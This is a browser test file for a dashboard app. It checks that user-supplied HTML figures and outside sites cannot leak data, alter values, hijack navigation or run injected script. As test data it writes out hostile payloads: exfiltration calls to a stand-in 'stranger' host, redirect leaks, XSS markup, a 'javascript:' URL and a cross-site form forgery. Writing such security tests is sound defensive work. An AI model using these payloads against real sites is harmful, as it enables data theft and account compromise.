// Figures are strangers, and so are other sites: nothing they try gets through.
import { Stranger } from "./support/stranger.ts";
import { cell, cells, figure, frame, live, notes, openBoard, stage, title } from "./support/page.ts";
import { expect, test as base } from "./support/test.ts";

const test = base.extend<{ stranger: Stranger }>({
  stranger: async ({}, use) => {
    const stranger = await Stranger.start();
    await use(stranger);
    stranger.stop();
  },
});

/** Runs inside the figure. Each try says what it got; what is refused says `refused`. */
const TRIES = (server: string, stranger: string) => `
<p>a figure</p><form id="form" method="post" action="${server}/values"><input name="name" value="by a form"></form>
<script>
const tries = {
  async read() { return (await fetch("${server}/values")).status },
  async readRelative() { return (await fetch("/values")).status },
  async write() { return (await fetch("${server}/values", { method: "POST", body: '{"name":"by fetch"}' })).status },
  async writeBlindly() { return (await fetch("${server}/values", { method: "POST", mode: "no-cors", body: '{"name":"by no-cors"}' })).type },
  async leak() { return (await fetch("${stranger}/leak-by-fetch", { mode: "no-cors" })).type },
  beacon() { return navigator.sendBeacon("${stranger}/leak-by-beacon", "x") && "sent" },
  remove() { const x = new XMLHttpRequest(); x.open("DELETE", "${server}/values?name=victim", false); x.send(); return x.status },
  socket() { return opened(new WebSocket("${server.replace("http", "ws")}/live?board=main")) },
  events() { return opened(new EventSource("${server}/events?board=main")) },
  image() { return loaded(new Image(), "${stranger}/leak-by-image") },
  script() { const s = document.createElement("script"); document.body.append(s); return loaded(s, "${stranger}/leak-by-script") },
  style() { const l = document.createElement("link"); l.rel = "stylesheet"; document.body.append(l); return loaded(l, "${stranger}/leak-by-style", "href") },
  font() { return new FontFace("x", "url(${stranger}/leak-by-font)").load().then(() => "loaded") },
  frame() { const f = document.createElement("iframe"); f.src = "${stranger}/leak-by-frame"; document.body.append(f); return "tried" },
  parent() { return parent.document.title },
  parentStorage() { return parent.localStorage.length },
  storage() { return localStorage.length },
  cookie() { document.cookie = "a=b"; return document.cookie || refuse() },
  database() { return new Promise((yes, no) => { const o = indexedDB.open("x"); o.onsuccess = () => yes("opened"); o.onerror = no }) },
  worker() { return new Promise((yes, no) => { const w = new Worker(URL.createObjectURL(new Blob(["postMessage(1)"]))); w.onmessage = () => yes("runs"); w.onerror = no }) },
  top() { top.location = "${stranger}/taken"; return "tried" },
  popup() { return window.open("${stranger}/popup") ? "opened" : refuse() },
  modal() { alert("hello"); return "tried" },
  form() { document.getElementById("form").submit(); return "tried" },
  formTop() { const f = document.getElementById("form"); f.target = "_top"; f.submit(); return "tried" },
  evaluate() { return eval("1 + 1") },
  heights() {
    for (const height of [1e9, -5, NaN, Infinity, "2000", null, {}, [3000]]) parent.postMessage({ agnez: "height", height }, "*");
    for (const message of [null, 7, "height", { agnez: "reload" }, { agnez: "height" }, { height: 1 }]) parent.postMessage(message, "*");
    return "tried";
  },
};
const refuse = () => { throw new Error("refused") };
const opened = (line) => new Promise((yes, no) => { line.onopen = line.onmessage = () => yes("opened"); line.onerror = no });
const loaded = (element, address, key = "src") => new Promise((yes, no) => { element.onload = () => yes("loaded"); element.onerror = no; element[key] = address });
(async () => {
  const report = {};
  for (const [name, attempt] of Object.entries(tries)) {
    const late = new Promise((_, no) => setTimeout(no, 3000));
    report[name] = await Promise.race([Promise.resolve().then(attempt), late]).catch(() => "refused");
  }
  const output = document.createElement("output");
  output.textContent = JSON.stringify(report);
  document.body.append(output);
})();
</script>`;

test("a hostile figure gets nowhere", async ({ page, agnez, problems, stranger }) => {
  // The browser complains about every single try; what counts is what has come of it.
  problems.allow(/./);
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const victim = await agnez.create({ name: "victim", type: "log", value: "untouched", pos: 0 });
  const hostile = await agnez.create({ name: "hostile", type: "html", value: TRIES(agnez.url, stranger.url), pos: 1 });
  const before = await agnez.values();
  await openBoard(page);

  const output = figure(cell(page, hostile._id)).locator("output");
  await expect(output).toBeAttached({ timeout: 30_000 });
  const report: Record<string, unknown> = JSON.parse((await output.textContent()) ?? "{}");
  const tried = ["frame", "top", "modal", "form", "formTop", "heights"];
  for (const [name, result] of Object.entries(report)) {
    if (name === "evaluate" || name === "beacon") continue;
    expect.soft(result, name).toBe(tried.includes(name) && result !== "refused" ? "tried" : "refused");
  }
  expect(Object.keys(report).length).toBeGreaterThan(20);

  expect(await agnez.values(), "no cell was touched").toEqual(before);
  expect(stranger.hits, "nothing has left").toEqual([]);
  expect(dialogs).toEqual([]);
  expect(page.url()).toBe(`${agnez.url}/`);
  expect(page.context().pages()).toHaveLength(1);

  // Heights are clamped, and the page goes on.
  const height = (await frame(cell(page, hostile._id)).boundingBox())?.height ?? 0;
  expect(height).toBeGreaterThanOrEqual(40);
  expect(height).toBeLessThanOrEqual(4000);
  await agnez.patch(victim._id, { value: "still live" });
  await expect(stage(cell(page, victim._id))).toContainText("still live");
});

test("a figure cannot leave by going elsewhere itself", async ({ page, agnez, problems, stranger }) => {
  problems.allow(/./);
  const ways = [
    `<script>location = "${stranger.url}/leak-by-location?secret"</script>`,
    `<meta http-equiv="refresh" content="0; url=${stranger.url}/leak-by-refresh">`,
    `<a id="a" href="${stranger.url}/leak-by-link">x</a><script>a.click()</script>`,
    `<script>location = "${agnez.url}/"</script>`,
    `<script>location = "/values"</script>`,
    `<link rel="prefetch" href="${stranger.url}/leak-by-prefetch"><link rel="preconnect" href="${stranger.url}">`,
  ];
  const made: { _id: string }[] = await agnez.create(ways.map((value, pos) => ({ name: `way ${pos}`, type: "html", value, pos })));
  const alive = await agnez.create({ name: "alive", type: "log", value: "1", pos: 99 });
  const loaded = new Set<string>();
  page.on("response", (response) => loaded.add(new URL(response.url()).pathname));
  await openBoard(page);
  // Figures below the fold load when they are scrolled to.
  for (const { _id } of made) {
    await cell(page, _id).scrollIntoViewIfNeeded();
    await expect.poll(() => [...loaded].some((path) => path.startsWith(`/figure/${_id}/`))).toBe(true);
  }
  await agnez.patch(alive._id, { value: "still live" });
  await expect(stage(cell(page, alive._id))).toContainText("still live");
  await page.waitForLoadState("networkidle");
  expect(stranger.hits).toEqual([]);
  expect(page.url()).toBe(`${agnez.url}/`);
  await expect(cells(page)).toHaveCount(ways.length + 1);
  // No figure shows the board, or the data, inside its frame.
  for (const inner of page.frames().slice(1)) {
    expect(await inner.locator("article[data-id]").count()).toBe(0);
    expect(await inner.locator("body").innerText().catch(() => "")).not.toContain("_id");
  }
});

test("titles, notes and types are text, whatever is in them", async ({ page, agnez }) => {
  const markup = `<img src=x onerror="window.pwned=1"></script><script>window.pwned=2</script>&amp;`;
  const { _id } = await agnez.create({ name: markup, description: markup, type: markup, value: markup });
  const { _id: other } = await agnez.create({ name: "text", type: "log", value: [markup] });
  await openBoard(page);
  const here = cell(page, _id);
  await expect(title(here)).toContainText(markup);
  await expect(notes(here)).toContainText(markup);
  await expect(stage(here)).toContainText(markup);
  await expect(stage(cell(page, other))).toContainText("onerror");
  // Live, too: what was drawn by the server above is drawn by the browser now.
  await agnez.patch(_id, { name: `live ${markup}`, description: `live ${markup}`, value: `live ${markup}` });
  for (const part of [title(here), notes(here), stage(here)]) await expect(part).toContainText(`live ${markup}`);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
  expect(await page.locator("main img, main script").count()).toBe(0);
  await page.reload();
  await live(page);
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

test("an address that is a script does nothing", async ({ page, agnez, problems }) => {
  problems.allow(/ERR_UNKNOWN_URL_SCHEME/, /javascript:/, /Content Security Policy/);
  const { _id } = await agnez.create({ name: "picture", type: "img", value: "javascript:window.pwned=1" });
  await openBoard(page);
  await expect(cell(page, _id)).toBeVisible();
  expect(await page.evaluate(() => (window as unknown as { pwned?: number }).pwned)).toBeUndefined();
});

test("another site can neither write, read nor listen", async ({ page, agnez, problems, stranger }) => {
  problems.allow(/./);
  stranger.pages.set(
    "/",
    `<form id="form" method="post" action="${agnez.url}/values" enctype="text/plain" target="inner"><input name='{"name":"by a form","x":"' value='"}'></form>
     <iframe name="inner"></iframe><iframe src="${agnez.url}/"></iframe>`,
  );
  const { _id } = await agnez.create({ name: "victim", type: "html", value: "<p>private</p>" });
  const before = await agnez.values();
  await page.goto(stranger.url);
  const report = await page.evaluate(async ({ server, socket, id }) => {
    const refused = () => "refused";
    const write = (method: string, path: string, mode?: RequestMode) => fetch(server + path, { method, body: '{"name":"by a site"}', ...(mode && { mode }) }).then((r) => `${r.status} ${r.type}`, refused);
    return {
      write: await write("POST", "/values"),
      patch: await write("PATCH", `/values/${id}`),
      read: await fetch(`${server}/values`).then((r) => r.text(), refused),
      figure: await fetch(`${server}/figure/${id}/1`).then((r) => r.text(), refused),
      blind: await write("POST", "/values", "no-cors"),
      events: await new Promise((done) => {
        const events = new EventSource(`${server}/events`);
        events.onopen = () => done("opened");
        events.onerror = () => done("refused");
      }),
      socket: await new Promise((done) => {
        const line = new WebSocket(`${socket}/live?board=main`);
        line.onopen = () => done("opened");
        line.onerror = () => done("refused");
      }),
    };
  }, { server: agnez.url, socket: agnez.url.replace("http", "ws"), id: _id });
  expect(report).toMatchObject({ write: "refused", patch: "refused", read: "refused", figure: "refused", events: "refused", socket: "refused" });
  await page.locator("#form").evaluate((form: HTMLFormElement) => form.submit());
  await page.waitForLoadState("networkidle");
  expect(await agnez.values(), "no cell was touched").toEqual(before);
  // The board does not show itself inside another site.
  expect(await page.frameLocator("iframe").last().locator("article[data-id]").count()).toBe(0);
});
